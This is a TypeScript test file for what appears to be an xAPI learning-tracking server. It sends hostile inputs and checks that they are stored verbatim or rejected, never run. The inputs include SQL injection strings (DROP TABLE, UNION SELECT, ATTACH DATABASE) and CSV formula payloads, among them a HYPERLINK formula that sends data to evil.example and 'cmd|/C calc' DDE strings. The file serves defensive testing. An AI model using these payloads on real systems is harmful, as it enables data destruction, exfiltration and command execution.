import assert from 'node:assert/strict';
import { storedFor } from '../../support/stored.js';
import { M } from './messages.js';
import { baseStatement, type Json, LOGIN, start, TRACK, verbatimCase, xapi } from './support.js';
import type { HostileCase } from './types.js';
import { http, json } from './wire.js';

const UNICODE: Array<[name: string, text: string]> = [
  ['lone high surrogate', 'a\ud800b'],
  ['lone low surrogate', 'a\udfffb'],
  ['reversed surrogate pair', '\udc00\ud800'],
  ['NUL', 'nul\u0000byte'],
  ['all C0 controls', Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('')],
  ['right-to-left override', 'player\u202Egnp.exe'],
  ['bidi isolates and marks', '\u2067abc\u2069\u200F\u061C'],
  ['zero-width characters', 'a\u200Bb\u200Cc\u200Dd\uFEFFe'],
  ['emoji with modifiers and ZWJ', '👩🏽‍💻🏳️‍🌈'],
  ['combining marks (zalgo)', `z${'\u0300\u0301\u0302\u0303'.repeat(50)}`],
  ['noncharacters', '\uFFFE\uFFFF\u{1FFFE}'],
  ['private use and astral', '\uE000\u{10FFFF}\u{1D11E}'],
];

/** Raw bytes inside a JSON string: decoders must not turn them into ASCII (overlong `/` and `"`). */
const RAW_BYTES: Array<[name: string, bytes: number[]]> = [
  ['overlong "/" (C0 AF)', [0xc0, 0xaf]],
  ['overlong quote (C0 A2)', [0xc0, 0xa2]],
  ['3-byte overlong "/" (E0 80 AF)', [0xe0, 0x80, 0xaf]],
  ['CESU-8 surrogate (ED A0 80)', [0xed, 0xa0, 0x80]],
  ['invalid bytes FF FE', [0xff, 0xfe]],
];

function unicode(): HostileCase[] {
  const group = 'unicode edge cases';
  const cases: HostileCase[] = [];
  for (const [name, text] of UNICODE) {
    cases.push(
      verbatimCase(group, `${name} in actor name, verb id, object id and an extension key, stored verbatim`, (env) => ({
        ...baseStatement(env),
        actor: { ...env.actorA, name: text },
        verb: { id: `http://x/${text}` },
        result: { extensions: { [`k${text}`]: text } },
      })),
    );
  }
  for (const [name, bytes] of RAW_BYTES) {
    cases.push({
      group,
      name: `${name} at the end of object.id is not read as ASCII`,
      request: (env) => {
        const body = JSON.stringify([{ ...baseStatement(env), object: { id: 'http://x/o@@', definition: { type: 't' } } }]);
        const [before, after] = body.split('@@') as [string, string];
        return http({ path: TRACK, headers: { Authorization: env.tokenA, 'Content-Type': 'application/json' }, body: Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]) });
      },
      expect: {
        status: 200,
        body: M.success,
        statements: 1,
        check(env) {
          const stored = storedFor(env.collector.context.db, env.tokenA).at(-1);
          const id = stored?.statement.object.id as string;
          assert.ok(id.startsWith('http://x/o'));
          // A body that is not UTF-8 is read as Windows-1252 (java-tracker on Windows, read-body.ts): each byte one
          // character of its own, so an overlong "/" or quote is never read as one, and nothing is dropped.
          const tail = id.slice('http://x/o'.length);
          assert.equal(tail.length, bytes.length, `one character per byte, got ${JSON.stringify(id)}`);
          assert.ok([...tail].every((c) => c.charCodeAt(0) > 0x7f), `nothing read as ASCII, got ${JSON.stringify(id)}`);
        },
      },
    });
  }
  const codes: Array<[string, string]> = [
    ['emoji', '%F0%9F%98%80'],
    ['NUL', 'a%00b'],
    ['right-to-left override', '%E2%80%AEedoc'],
    ['zero-width space', 'x%E2%80%8B'],
  ];
  for (const [name, code] of codes) {
    cases.push({ group, name: `tracking code with ${name}`, request: () => http({ path: start(code) }), expect: { status: 404, body: M.noCode } });
  }
  for (const code of ['%ED%A0%80', '%C0%AF', '%FF', '%E0%A4%A']) {
    // No tracking code can be it: the start's own steps end at 404, as for any mistyped code (rage-router.ts).
    cases.push({ group, name: `tracking code with undecodable ${code}`, request: () => http({ path: start(code) }), expect: { status: 404, body: M.noCode } });
  }
  cases.push({
    group,
    name: 'anonymous id with NUL and RTL',
    request: (env) => json(start(env.codes.open), { anonymous: 'p\u0000\u202E' }),
    expect: { status: 404, body: M.noAnonymous('p\u0000\u202E') },
  });
  cases.push({ group, name: 'login username with NUL', request: () => json(LOGIN, { username: 'ana\u0000', password: 'x' }), expect: { status: 401 } });
  cases.push({
    group,
    // Accepted today and stored verbatim; RFC 3987 forbids bidi controls in IRIs, so a stricter validator may refuse it.
    name: 'xAPI actor mbox with RTL override is stored as sent',
    request: (env) => xapi(env, JSON.stringify({ actor: { mbox: 'mailto:\u202Ea@b.c' }, verb: { id: 'http://a/b' }, object: { id: 'http://a/c' } })),
    expect: { status: 200, statements: 1, sessions: 1, players: 1 },
  });
  return cases;
}

const SQL = [
  "'; DROP TABLE statements; --",
  '" OR "1"="1',
  "1' OR '1'='1' --",
  "Robert'); DROP TABLE students;--",
  "%' UNION SELECT sql, 1 FROM sqlite_master --",
  "x'; ATTACH DATABASE '/tmp/aula-pwn.db' AS pwn; --",
];
const CSV = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', '"=1+1"'];

function injection(): HostileCase[] {
  const group = 'SQL and CSV injection strings';
  const cases: HostileCase[] = [];
  for (const text of [...SQL, ...CSV]) {
    const build = (env: Parameters<typeof baseStatement>[0]): Json => ({
      ...baseStatement(env),
      actor: { ...env.actorA, name: text },
      verb: { id: `${text}x` },
      object: { id: `${text}o`, definition: { type: `${text}t` } },
      result: { extensions: { [text]: text }, response: text },
      timestamp: text,
    });
    cases.push(verbatimCase(group, `stored verbatim: ${JSON.stringify(text)}`, build));
  }
  for (const text of SQL) {
    cases.push({ group, name: `tracking code ${JSON.stringify(text)}`, request: () => http({ path: start(encodeURIComponent(text)) }), expect: { status: 404, body: M.noCode } });
  }
  for (const text of SQL.slice(0, 3)) {
    cases.push({
      group,
      name: `anonymous id ${JSON.stringify(text)}`,
      request: (env) => json(start(env.codes.open), { anonymous: text }),
      expect: { status: 404, body: M.noAnonymous(text.trim()) },
    });
    cases.push({ group, name: `login as ${JSON.stringify(text)}`, request: () => json(LOGIN, { username: text, password: text }), expect: { status: 401 } });
    cases.push({ group, name: `authToken ${JSON.stringify(text)}`, request: () => json(TRACK, [{}], { Authorization: text }), expect: { status: 401, body: M.token } });
    cases.push({
      group,
      name: `xAPI key ${JSON.stringify(text)}`,
      request: (env) => xapi(env, '{}', { Authorization: `Basic ${Buffer.from(`${text}:${text}`).toString('base64')}` }),
      expect: { status: 401, body: /"message":"Unknown or revoked xAPI credentials"/ },
    });
  }
  cases.push({
    group,
    name: 'xAPI statement with SQL in every string is stored or refused, never run',
    request: (env) =>
      xapi(env, JSON.stringify({ actor: { name: SQL[0], mbox: 'mailto:a@b.c' }, verb: { id: `http://a/${encodeURIComponent(SQL[1] as string)}` }, object: { id: 'http://a/c', definition: { name: { 'en-US': SQL[4] } } } })),
    expect: { status: 200, statements: 1, sessions: 1, players: 1, body: /^\["[0-9a-f-]{36}"\]$/ },
  });
  return cases;
}

export const textCases = (): HostileCase[] => [...unicode(), ...injection()];
